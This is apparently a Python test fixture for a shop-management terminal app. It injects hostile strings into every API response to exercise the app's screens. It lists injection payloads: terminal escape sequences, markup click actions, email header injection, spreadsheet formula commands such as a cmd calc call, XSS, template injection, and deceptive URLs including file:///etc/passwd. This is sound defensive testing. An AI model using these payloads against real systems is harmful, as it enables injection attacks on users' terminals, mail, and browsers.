"""The demo shop in bad hands: every text it gives tries something. Also a program that shows it.

``python -m tests.hostile.evil_shop DIRECTORY`` runs the screens over it.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

from cartdesk.demo.web import Request, Response
from cartdesk.demo.world import World
from cartdesk.tui.app import CartdeskApp
from tests.desks import Bench

MARK = "pwned"
TEXTS = (
    "[@click=app.quit]Anna[/]",
    f"[@click=app.screenshot('{MARK}.svg','.')]Ben[/]",
    "[@click=app.simulate_key('S')]Cleo[/]",
    "[@click=\"app.open_url('https://evil.example')\"]Dora[/]",
    "[link=https://evil.example]Emil[/link]",
    "[/]",
    "[b",
    "[@click=app.bell",
    '[$foo]x[/] [on red]y [@click=app.quit("]")]z[/]',
    f"\x1b]52;c;{MARK}\x07Fay\x1b[2J\x1b[31m",
    f"\x1b]8;;https://evil.example/{MARK}\x1b\\Gus\x1b]8;;\x1b\\",
    f"\x1b]0;{MARK}\x07Hal",
    f"\x1b]52;c;{MARK}",  # never ended
    "\x9b2JIda\x9d52;c;x\x9c\x90q\x85\x8d",
    "Jo\x00\x08\x0b\x0c\x7fe",
    "Kim\u202ennA\u2066x\u200f\u061c",
    "L\u200bi\u200c\u2060\ufeffs\U000e0041a",
    "M" + "\u0301" * 400 + "o",
    "N" * 1_000_000,
    f"Otto\r\nBcc: {MARK}@evil.example\r\n\r\nHello",
    f"Pia\nX-{MARK}: 1",
    f"=?utf-8?q?Q=0D=0ABcc:_{MARK}=40evil.example?=",
    '=HYPERLINK("https://evil.example","Rae")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\"><a href='https://evil.example'>Sam</a>",
    "{{ 7*7 }}{% for x in range(9**9) %}{{ ''.__class__ }}{% endfor %}",
    "[Tia](https://evil.example) ![x](https://evil.example/p.png) <https://evil.example>",
    "\u2028Uwe\u2029\ud800"[:-1],
    "%s%n%x {0} {x!r}",
)
URLS = (
    "javascript:alert(1)",
    "https://evil.example/checkout/order-pay/1/?pay_for_order=true&key=wc_order_1",
    "{shop}@evil.example/pay",
    "https://127.0.0.1@evil.example/",
    "http://127.0.0.1.evil.example/",
    "http://127.0.0.1:1/",
    "//evil.example/x",
    "http:\\\\evil.example",
    "{shop}.evil.example/",
    "http://127.0.0.1%2eevil.example/",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "http://\u0561\u0440\u0440le.example/",
    "{shop}/x\r\nBcc: evil@evil.example",
)
_KEPT = frozenset(
    {"id", "status", "currency", "type", "stock_status", "email", "reviewer_email", "namespaces"}
    | {"timezone_string", "payment_method", "created_via", "total", "total_tax", "quantity"}
    | {"product_id", "key", "code", "version", "plugin", "subtotal", "country", "discount_total"}
    | {"discount_tax", "shipping_total", "shipping_tax"}
)
_LINKS = frozenset(
    ("payment_url", "src", "permalink", "product_permalink", "home", "url", "link", "href")
)


class Evil:
    """Puts a trick into every text of every answer; the tricks take turns."""

    def __init__(self, world: World, *, pay_links: bool) -> None:
        self._shop = world.address
        self._texts = itertools.cycle(TEXTS)
        self._urls = itertools.cycle(URLS)
        self._huge = 0
        self._pay_links = pay_links  # whether the links to pay are left as they are

    def __call__(self, request: Request, answer: Response) -> Response:
        try:
            value = json.loads(answer.body)
        except ValueError:
            return answer
        if "/settings/" in request.path or answer.status != 200:
            return answer
        body = json.dumps(self._spoilt("", value)).encode()
        return replace(answer, body=body)

    def _spoilt(self, key: str, value: Any) -> Any:
        if isinstance(value, dict):
            return {name: self._spoilt(name, inner) for name, inner in value.items()}
        if isinstance(value, list):
            return [self._spoilt(key, inner) for inner in value]
        if not isinstance(value, str) or key in _KEPT or key.startswith("date_"):
            return value
        if key == "payment_url" and self._pay_links:
            return value
        if key in _LINKS:
            return next(self._urls).replace("{shop}", self._shop)
        if key == "value":  # of meta data, where the consent to be written to stands
            return value
        return self._text()

    def _text(self) -> str:
        found = next(self._texts)
        if len(found) > 100_000:
            self._huge += 1
            if self._huge % 40 != 1:  # a hundred of them in one answer are a matter for its size
                return found[:2000]
        return found


@asynccontextmanager
async def evil_bench(
    directory: Path, *, hours: float = 3, pay_links: bool = False
) -> AsyncIterator[Bench]:
    """A desk over such a shop, some hours into its story; nothing was asked yet."""
    async with World(directory, speed=0) as world:
        world.clock.advance(timedelta(hours=hours))
        world.store.faults.append(Evil(world, pay_links=pay_links))
        for number, order in enumerate(sorted(world.shop.orders.values(), key=lambda o: -o.id)):
            if number < 60:
                order.customer_note = "please ring twice"
                world.shop.touch(order)
        yield Bench(world, directory)


async def show(directory: Path) -> None:
    """Run the screens over it."""
    async with evil_bench(directory) as bench:
        app = CartdeskApp(bench.desk, clock=bench.world.clock, maildir=bench.world.maildir)
        await app.run_async()


if __name__ == "__main__":
    asyncio.run(show(Path(sys.argv[1])))
